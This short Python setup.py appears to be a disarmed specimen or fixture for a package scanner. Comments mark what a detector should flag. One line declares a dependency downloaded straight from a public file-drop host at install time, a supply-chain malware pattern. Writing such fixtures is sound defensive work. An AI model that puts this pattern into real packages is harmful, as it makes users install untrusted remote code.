raise SystemExit("specimen: not to be run")
from setuptools import setup
import setuptools as tools
options = {"name": "specimen"}
options["install_requires"] = ["requests", "helper @ https://transfer.sh/get/specimen/helper-1.0.zip"]  # match: file-drop
tools.setup(**options)  # match: direct-requirement
